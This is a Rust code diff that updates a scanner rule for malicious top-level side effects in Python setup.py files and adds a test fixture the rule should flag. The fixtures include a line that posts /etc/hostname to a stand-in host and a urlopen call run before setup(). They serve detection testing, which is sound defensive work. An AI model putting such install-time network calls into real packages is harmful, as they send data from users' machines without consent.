@@ -55,12 +55,16 @@ pub const SETUP_SIDE_EFFECT: Rule = derived(
     F,
     Severity::Medium,
     Confidence::Medium,
-    "setup.py does network, process or exec work at top level, outside setup()",
+    "setup.py does network work, or process/exec work at top level outside setup()",
     "Top-level code in setup.py runs on every sdist install and build.",
     &[
         fires(
             "setup.py",
             "import requests\nrequests.post('http://x.example', data=open('/etc/hostname').read())\nsetup(name='x')\n",
+        ),
+        fires(
+            "setup.py",
+            "def rn():\n    r = urllib2.urlopen(ADD)\nrn()\nsetup(name='x')\n",
         ),
         quiet(
             "setup.py",
